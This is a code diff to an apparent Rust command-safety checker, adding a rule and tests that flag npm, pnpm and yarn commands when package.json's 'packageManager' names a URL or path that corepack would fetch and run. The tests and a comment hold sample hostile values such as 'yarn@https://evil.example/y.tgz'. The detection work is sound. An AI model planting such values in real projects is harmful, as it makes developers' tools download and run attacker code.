@@ -23,6 +23,9 @@ declare_check! {
     ///   loading a library into rustc, `-Z codegen-backend=./x.so`, writing a file,
     ///   `--print=cfg=PATH`, or reading more flags from one, `@FILE`), or a
     ///   `rust-toolchain.toml` with a toolchain `path`;
+    /// - npm, pnpm and yarn (and `--version` of each) with a `package.json` whose
+    ///   `packageManager` is not a release by its version (`yarn@https://…`, `pnpm@file:…`):
+    ///   corepack, whose shims they often are, runs the release it names;
     /// - yarn with `yarnPath` or `plugins` in `.yarnrc.yml` (or `yarn-path` in `.yarnrc`), or
     ///   with a `package.json` script named like its command (`yarn list` runs a script `list`
     ///   on yarn 2 and later, which have no `list` of their own);
@@ -791,6 +794,32 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
             "`{}` names package sources: `{base}` would send the person's credentials for a source's name to the host the file gives it",
             f.display()
         ));
+    }
+    // Corepack, whose shims `yarn` and `pnpm` (and `npm`, once enabled) often are, runs the
+    // release the nearest `package.json` names in `packageManager` before the command,
+    // `--version` included: a version is fetched from the npm registry, but a URL or a path
+    // (`yarn@https://evil.example/y.tgz`) is whatever the checkout points to.
+    if matches!(base, "npm" | "npx" | "pnpm" | "pnpx" | "yarn" | "yarnpkg")
+        && let Some(f) = project_dirs(dir, root)
+            .map(|d| d.join("package.json"))
+            .find(|f| {
+                w.has(f)
+                    || w.cx.look.read_to_string(f).is_ok_and(|t| {
+                        t.contains("packageManager") && !package_manager_is_a_release(&t)
+                    })
+            })
+    {
+        return Some(if w.has(&f) {
+            format!(
+                "the line writes `{}`, whose `packageManager` may name the release corepack runs by a URL or a path: files of the checkout or of any host",
+                f.display()
+            )
+        } else {
+            format!(
+                "`{}` names the package manager release corepack runs by a URL or a path, not a version: files of the checkout or of any host",
+                f.display()
+            )
+        });
     }
     match base {
         // pnpm loads the project's pnpmfile (its `updateConfig` hook runs at start, whatever
@@ -2820,6 +2849,33 @@ fn queries_sources(base: &str, u: &Unit) -> bool {
     }
 }
 
+/// Whether a `package.json`'s `packageManager` is absent or a release by its version
+/// (`pnpm@9.1.0`, `yarn@4.2.2+sha512.…`): a name of corepack's and a semantic version, with an
+/// optional hash. Text that is not JSON, or a field that is not a string, counts as neither.
+fn package_manager_is_a_release(text: &str) -> bool {
+    let Ok(serde_json::Value::Object(m)) = serde_json::from_str::<serde_json::Value>(text) else {
+        return false;
+    };
+    let Some(v) = m.get("packageManager") else {
+        return true;
+    };
+    let Some((name, spec)) = v.as_str().and_then(|v| v.split_once('@')) else {
+        return false;
+    };
+    let (version, hash) = spec.split_once('+').unwrap_or((spec, ""));
+    let (core, pre) = version.split_once('-').unwrap_or((version, ""));
+    let numbers = core.split('.').collect::<Vec<_>>();
+    matches!(name, "npm" | "pnpm" | "yarn")
+        && numbers.len() == 3
+        && numbers
+            .iter()
+            .all(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
+        && pre
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
+        && hash.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.')
+}
+
 /// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
 fn pnpm_version_only(u: &Unit) -> bool {
     let mut args = u.args().map(text);
@@ -4067,6 +4123,47 @@ mod tests {
             "[[index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
         );
         assert!(flagged(root, "uv pip list --outdated").is_some());
+    }
+
+    /// Corepack runs the release `packageManager` names: a version is the registry's release,
+    /// a URL or a path is not, even for `--version`.
+    #[test]
+    fn corepack_package_manager_by_url() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        let cmds = ["pnpm --version", "yarn --version", "npm ls", "pnpm -v"];
+        for manager in [
+            None,
+            Some("pnpm@9.1.0"),
+            Some(
+                "yarn@4.2.2+sha512.6c0a0e7a13b1fd4ea4ab1fd2e6ff37b0c84a1eec7e2e6d3c7f0b1b07ad7a0d8a",
+            ),
+            Some("pnpm@10.0.0-rc.1"),
+        ] {
+            let json = manager.map_or("{\"name\": \"x\"}\n".to_owned(), |m| {
+                format!("{{\"name\": \"x\", \"packageManager\": \"{m}\"}}\n")
+            });
+            write(root, "package.json", &json);
+            for cmd in cmds {
+                assert_eq!(flagged(root, cmd), None, "{manager:?}: {cmd}");
+            }
+        }
+        for manager in [
+            "\"yarn@https://evil.example/y.tgz\"",
+            "\"pnpm@file:./x.tgz\"",
+            "\"pnpm@latest\"",
+            "\"evil@1.0.0\"",
+            "7",
+        ] {
+            write(
+                root,
+                "package.json",
+                &format!("{{\"packageManager\": {manager}}}\n"),
+            );
+            for cmd in cmds {
+                assert!(flagged(root, cmd).is_some(), "{manager}: {cmd}");
+            }
+        }
     }
 
     #[test]
